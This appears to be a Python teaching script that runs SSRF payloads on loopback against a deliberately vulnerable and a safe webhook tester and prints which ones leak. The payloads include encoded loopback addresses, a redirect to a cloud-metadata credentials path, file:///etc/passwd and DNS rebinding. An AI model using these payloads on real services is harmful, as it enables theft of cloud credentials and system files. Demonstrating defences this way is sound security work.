"""The same attacks against the vulnerable and the safe webhook tester, on loopback.

The servers are real (examples/security/web/ssrf_lab.py); ports change every run,
so the output names each attack instead of printing its URL.
"""

from functools import partial

from fastapi.testclient import TestClient

from examples.security.web.ssrf_fetch import (
    safe_fetch,
    vulnerable_check_then_fetch,
    vulnerable_fetch,
)
from examples.security.web.ssrf_lab import (
    METADATA_SECRET,
    RebindingResolver,
    loopback_lab,
    public_or_partner,
)
from examples.security.web.webhook_app import create_app


def outcome(client: TestClient, url: str) -> str:
    response = client.post("/webhooks/test", json={"url": url})
    if response.status_code != 200:
        return f"{response.status_code}"
    preview = response.json()["preview"]
    if url.startswith("file:"):
        return "READ FILE"  # the first line of /etc/passwd differs between machines
    return "LEAKED" if "SecretAccessKey" in preview else preview


with loopback_lab() as lab:
    # --8<-- [start:attacks]
    p = lab.port
    metadata = f"127.0.0.1:{p}/latest/meta-data/iam/security-credentials/"
    attacks = {
        "partner (allowed)": f"http://127.0.0.2:{p}/hook",
        "127.0.0.1": f"http://{metadata}",
        "[::1]": f"http://[::1]:{lab.ipv6_port}/latest/meta-data/",
        "decimal 2130706433": f"http://2130706433:{p}/",
        "hex 0x7f000001": f"http://0x7f000001:{p}/",
        "octal 0177.0.0.1": f"http://0177.0.0.1:{p}/",
        "short 127.1": f"http://127.1:{p}/",
        "redirect from partner": f"http://127.0.0.2:{p}/go?to=http://{metadata}",
        "file:///etc/passwd": "file:///etc/passwd",
    }
    # The lab treats 127.0.0.2 as "the internet" and uses random ports; production
    # keeps the defaults: https only, port 443, public addresses.
    safe = partial(
        safe_fetch, schemes={"http", "https"}, ports=None, allow_ip=public_or_partner
    )
    with (
        TestClient(create_app(vulnerable_fetch)) as vulnerable_client,
        TestClient(create_app(safe)) as safe_client,
    ):
        print(f"{'attack':<22} {'vulnerable':<11} safe")
        #> attack                 vulnerable  safe
        for name, url in attacks.items():
            before = outcome(vulnerable_client, url)
            print(f"{name:<22} {before:<11} {outcome(safe_client, url)}")
            #> partner (allowed)      partner ok  partner ok
            #> 127.0.0.1              400         400
            #> [::1]                  LEAKED      400
            #> decimal 2130706433     LEAKED      400
            #> hex 0x7f000001         LEAKED      400
            #> octal 0177.0.0.1       LEAKED      400
            #> short 127.1            LEAKED      400
            #> redirect from partner  LEAKED      400
            #> file:///etc/passwd     READ FILE   400
        refusal = safe_client.post(
            "/webhooks/test", json={"url": attacks["hex 0x7f000001"]}
        )
        print(refusal.json()["detail"])  # the reason goes to the server's log only
        #> the URL is not allowed
    # --8<-- [end:attacks]
    # --8<-- [start:rebinding]
    url = f"http://rebind.example.test:{lab.port}/latest/meta-data/"
    fetched = vulnerable_check_then_fetch(
        url, resolve=RebindingResolver(), allow_ip=public_or_partner
    )
    print(fetched.body == METADATA_SECRET)
    #> True
    fetched = safe_fetch(
        url,
        schemes={"http"},
        ports=None,
        resolve=RebindingResolver(),
        allow_ip=public_or_partner,
    )
    print(fetched.body)
    #> b'partner ok'
    # --8<-- [end:rebinding]
